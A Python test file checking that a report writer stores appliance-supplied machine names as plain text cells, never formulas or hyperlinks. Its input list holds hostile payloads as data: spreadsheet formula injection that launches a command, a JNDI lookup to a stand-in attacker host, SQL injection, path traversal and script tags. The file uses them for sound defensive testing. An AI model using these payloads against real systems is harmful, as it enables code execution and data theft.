"""Names that appliances may send, and what a cell says of them: text, always, and a file that opens."""

import re
import zipfile
from dataclasses import replace
from io import BytesIO
from xml.etree import ElementTree

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from reports.workbook import MachineRow, write_workbook
from reports.workbook.cleaning import CUT_MARK, MAX_CELL_UNITS, clean_text
from tests.reports.workbooks import with_rows

HARMLESS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example","click")',
    "+1",
    "+cmd|' /C calc'!A0",
    "-1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "@import",
    "\t=1+1",
    "\n=1+1",
    " =1+1",
    "'=1+1",
    '"=1+1"',
    "{=1+1}",
    "=",
    "==",
    "#REF!",
    "#N/A",
    "\uff1d1+1",
    "\uff0b1",
    "\uff0d1",
    "\uff20SUM(1)",
    "\u22121",
    "%3D1+1",
    ";=1+1",
    "0x41",
    "007",
    "1e5",
    "1,234.50",
    "TRUE",
    "2026-11-20",
    "12:30",
    "50 %",
    "http://evil.example/",
    "https://evil.example/?a=1&b=2#c",
    "mailto:mallory@evil.example",
    "ftp://evil.example",
    "file:///etc/passwd",
    "internal:Sheet1!A1",
    "external:book.xlsx",
    "<script>alert(1)</script>",
    "<r><t>x</t></r>",
    "<r></r>",
    "<r>&</wrong></r>",
    "<r> </r>",
    "</t></is></c>",
    "]]>",
    "<![CDATA[x]]>",
    "<!-- x -->",
    "<?xml version='1.0'?>",
    "&amp;",
    "&",
    "&#0;",
    "&#x3D;1",
    '"',
    "'",
    "a\nb",
    "a\tb",
    " leading and trailing ",
    "   ",
    "\u00a0",
    "\u3000wide",
    "zero\u200bwidth",
    "\ufeffmark",
    "\u202egnp.exe",
    "שלום עולם",
    "مرحبا بالعالم",
    "日本語サーバー",
    "สวัสดี",
    "\U0001d4b2\U0001d452\U0001d4b7",
    "👩‍👩‍👧‍👦",
    "🇩🇪🇫🇷",
    "e\u0301\u0300\u0323" * 20,
    "\U0010ffff",
    "\U0001fffe",
    "${jndi:ldap://evil.example}",
    "{{7*7}}",
    "%s%n",
    "../../etc/passwd",
    "C:\\Windows\\System32",
    "'; DROP TABLE machines; --",
    "CON",
    "None",
    "nan",
    "x" * 255,
    "界" * 255,
    "🦊" * 255,
]
CLEANED = {
    "nul\x00": "nul\ufffd",
    "\x01\x02\x08": "\ufffd\ufffd\ufffd",
    "\x0b\x0c": "\ufffd\ufffd",
    "\x1b[31mred": "\ufffd[31mred",
    "\x1f": "\ufffd",
    "\x7f": "\ufffd",
    "\x85next": "\ufffdnext",
    "\r=1+1": "\n=1+1",
    "a\r\nb": "a\nb",
    "\ufffe": "\ufffd",
    "\uffff=1": "\ufffd=1",
    "\ud800": "\ufffd",
    "=\udfff": "=\ufffd",
    "\udc00\ud800": "\ufffd\ufffd",
}


def names_read_back(names: list[str]) -> list[object]:
    """The names as openpyxl reads them from the column Machine; every one of them must be a text cell."""
    target = BytesIO()
    machines = [MachineRow(machine_name=name, group_name=name, readiness="ready") for name in names]
    report = replace(with_rows(machines=machines), assessment_name=names[0], project_name=names[-1])
    write_workbook(report, target)
    for part in parts(target, r"\.xml$"):
        ElementTree.fromstring(part)
    cells = [row[0] for row in load_workbook(target)["All_Assessed_Machines"].iter_rows(min_row=2)]
    assert {cell.data_type for cell in cells} <= {"s", "inlineStr"}
    return [cell.value for cell in cells]


def parts(target: BytesIO, pattern: str) -> list[bytes]:
    with zipfile.ZipFile(target) as archive:
        return [archive.read(name) for name in archive.namelist() if re.search(pattern, name)]


def test_hostile_names_stay_what_they_are() -> None:
    assert names_read_back(HARMLESS) == HARMLESS


def test_characters_that_a_file_may_not_hold_are_shown_as_replaced() -> None:
    assert names_read_back(list(CLEANED)) == list(CLEANED.values())


def test_no_name_becomes_a_formula_or_a_link() -> None:
    target = BytesIO()
    machines = [MachineRow(machine_name=name, group_name=name, readiness="ready") for name in HARMLESS]
    write_workbook(with_rows(machines=machines), target)
    sheet = parts(target, r"worksheets/sheet2\.xml$")[0]
    assert b"<f>" not in sheet
    assert b"<hyperlink" not in sheet
    assert not parts(target, r"worksheets/_rels/sheet2")


def test_escapes_of_the_format_itself_are_escaped() -> None:
    """Excel reads `_x0041_` in a cell as `A`; its own escape for that is `_x005F_`, which openpyxl leaves in place."""
    assert names_read_back(["_x0041_"]) == ["_x005F_x0041_"]


@pytest.mark.parametrize("character", ["x", "界", "🦊"])
def test_a_text_over_the_limit_of_a_cell_is_cut_with_a_mark(character: str) -> None:
    cleaned = clean_text(character * 40_000)
    units = len(cleaned.encode("utf-16-le")) // 2
    assert cleaned.endswith(character + CUT_MARK)
    assert MAX_CELL_UNITS - 1 <= units <= MAX_CELL_UNITS
    assert names_read_back([character * 40_000]) == [cleaned]


def test_a_text_at_the_limit_is_whole() -> None:
    text = "x" * MAX_CELL_UNITS
    assert clean_text(text) == text


@given(st.lists(st.text(st.characters(), min_size=1, max_size=300), min_size=1, max_size=20))
@settings(max_examples=40, deadline=None)
def test_any_text_gives_a_file_that_opens_and_reads_clean(names: list[str]) -> None:
    def as_openpyxl_reads(name: str) -> str:
        return re.sub(r"(_x[0-9A-Fa-f]{4}_)", r"_x005F\1", clean_text(name))

    assert names_read_back(names) == [as_openpyxl_reads(name) for name in names]
